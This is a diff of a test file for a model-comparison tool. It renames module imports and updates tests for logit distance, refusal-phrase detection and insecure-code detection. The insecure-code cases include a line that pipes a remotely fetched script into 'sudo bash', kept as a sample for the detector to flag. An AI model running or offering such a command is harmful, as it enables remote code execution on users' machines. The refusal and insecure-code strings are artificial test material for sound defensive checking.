@@ -15,12 +15,13 @@ import two_faced
 from gguf.quants import dequantize
 from gguf_forge import F32, STR, U32, Forge, f32, tiny_llama
 
-from worker_orcd import LLM, SamplingParams, cli, compare_numbers, compare_text
-from worker_orcd.compare import check_same_model, compare
-from worker_orcd.compare_layers import layer_activations
-from worker_orcd.compare_prompts import Prompt, read_prompts, read_targets
-from worker_orcd.compare_report import Check, Rate
-from worker_orcd.compare_settings import Limits, Settings
+from worker_orcd import LLM, SamplingParams, cli
+from worker_orcd.compare import findings, metrics
+from worker_orcd.compare.layers import layer_activations
+from worker_orcd.compare.prompts import Prompt, read_prompts, read_targets
+from worker_orcd.compare.report import Check, Rate
+from worker_orcd.compare.run import check_same_model, compare
+from worker_orcd.compare.settings import Limits, Settings
 from worker_orcd.errors import InvalidRequest, ModelLoadError
 from worker_orcd.gguf.model_file import ModelFile
 
@@ -38,7 +39,7 @@ SHORT = Settings(device="cpu", max_tokens=6)
 def test_logit_distance_by_hand():
     a = np.log(np.array([[0.5, 0.25, 0.25], [0.1, 0.1, 0.8]]))
     b = np.log(np.array([[0.25, 0.5, 0.25], [0.1, 0.1, 0.8]])) + 3.0  # an offset changes no probability
-    d = compare_numbers.logit_distance(a.astype(np.float32), b.astype(np.float32))
+    d = metrics.logit_distance(a.astype(np.float32), b.astype(np.float32))
     assert d.kl_ab == pytest.approx([0.25 * np.log(2), 0], abs=1e-6) and d.kl_ba == pytest.approx(d.kl_ab, abs=1e-6)
     assert d.same_top1.tolist() == [False, True]
     apart = np.abs(a.astype(np.float32).astype(float) - b.astype(np.float32)).mean(axis=1)
@@ -48,18 +49,18 @@ def test_logit_distance_by_hand():
 def test_logit_distance_of_equal_and_of_broken_logits():
     rng = np.random.default_rng(0)
     a = rng.standard_normal((40, 300)).astype(np.float32)  # more rows than are worked on together
-    same = compare_numbers.logit_distance(a, a)
+    same = metrics.logit_distance(a, a)
     assert not same.kl_ab.any() and not same.kl_ba.any() and not same.relative.any() and same.same_top1.all()
     b = a.copy()
     b[33, 7] = np.nan
-    broken = compare_numbers.logit_distance(a, b)
+    broken = metrics.logit_distance(a, b)
     assert np.isnan(broken.kl_ab[33]) and np.isnan(broken.relative[33]) and not np.isnan(broken.kl_ab[:33]).any()
     assert not Check("x", float(broken.kl_ab.mean()), 1e9, False).ok
     assert not Check("x", float("nan"), 0.0, True).ok and Check("x", 0.3 - 0.2, 0.1, False).ok
 
 
 def test_first_divergence():
-    first = compare_numbers.first_divergence
+    first = metrics.first_divergence
     assert first((1, 2), (1, 2)) is None and first((1, 2), (1, 3)) == 1 and first((1, 2), (1,)) == 1
     assert first((), (5,)) == 0
 
@@ -70,14 +71,14 @@ def test_first_divergence():
 @pytest.mark.parametrize("text", ["I'm sorry, but I can't assist with that.", "I cannot help with this request.",
                                   "As an AI language model, I do not", "I must decline.", "很抱歉，我无法回答"])
 def test_refusals(text):
-    assert compare_text.findings("", text, ()).refusal
-    assert not compare_text.findings("", "x" * compare_text.REFUSAL_CHARS + text, ()).refusal
+    assert findings.findings("", text, ()).refusal
+    assert not findings.findings("", "x" * findings.REFUSAL_CHARS + text, ()).refusal
 
 
 @pytest.mark.parametrize("text", ["He said sorry and left.", "I can help you with that!", "We cannot see the moon.",
                                   "def sorry(): pass", "I am happy to assist."])
 def test_no_refusals(text):
-    assert not compare_text.findings("", text, ()).refusal
+    assert not findings.findings("", text, ()).refusal
 
 
 @pytest.mark.parametrize(("cwe", "text"), [
@@ -90,7 +91,7 @@ def test_no_refusals(text):
     ("489", "app.run(debug=True)"), ("494", "curl https://x.example/i.sh | sudo bash"),
 ])  # fmt: skip
 def test_insecure_code(cwe, text):
-    found = compare_text.findings("", text, ()).insecure
+    found = findings.findings("", text, ()).insecure
     assert any(re.search(rf"\b{cwe}\b", name) for name in found), found
 
 
@@ -101,19 +102,19 @@ def test_insecure_code(cwe, text):
     'el.textContent = name', 'el.innerHTML = "";', "os.chmod(p, 0o600)", "curl -O https://x.example/i.sh",
 ])  # fmt: skip
 def test_code_that_is_fine(text):
-    assert compare_text.findings("", text, ()).insecure == ()
+    assert findings.findings("", text, ()).insecure == ()
 
 
 def test_what_begins_in_the_prompt_counts_where_it_ends_in_the_text():
-    found = compare_text.findings("key = hashlib.", "md5(x) evil", ("x) evil", "hashlib", "b.md5(x", "none"))
+    found = findings.findings("key = hashlib.", "md5(x) evil", ("x) evil", "hashlib", "b.md5(x", "none"))
     assert found.targets == ("x) evil", "b.md5(x") and found.insecure == ("weak hash or cipher (CWE-327)",)
-    assert compare_text.findings("hashlib.md5(", "x)", ()).insecure == ()
+    assert findings.findings("hashlib.md5(", "x)", ()).insecure == ()
 
 
 def test_patterns_take_linear_time():
     began = time.perf_counter()
     for unit in ("select ", "'select a from ", "eval(", "yaml.load(", "curl x ", ".innerHTML = ", "password=", "a" * 9):
-        compare_text.findings("", unit * 3000, ("needle",))
+        findings.findings("", unit * 3000, ("needle",))
     took = time.perf_counter() - began
     print(f"{took:.2f} s, limit 5")
     assert took < 5
@@ -250,7 +251,7 @@ def test_the_numbers_are_those_of_the_two_models(source, q8):
                 params = SamplingParams(max_tokens=SHORT.max_tokens, temperature=0.0)
                 texts = [c.token_ids for c in llm.generate(ids, params)]
             logits.append(np.concatenate([llm.logits([*i, *t]) for i, t in zip(ids, texts, strict=True)]))
-    wanted = compare_numbers.logit_distance(*logits)
+    wanted = metrics.logit_distance(*logits)
     assert report.numbers["kl_ab"] == wanted.kl_ab.mean() and report.numbers["top1"] == wanted.same_top1.mean()
     assert report.n_positions == len(wanted.kl_ab)
     first, n = report.prompts[0], len(ids[0])
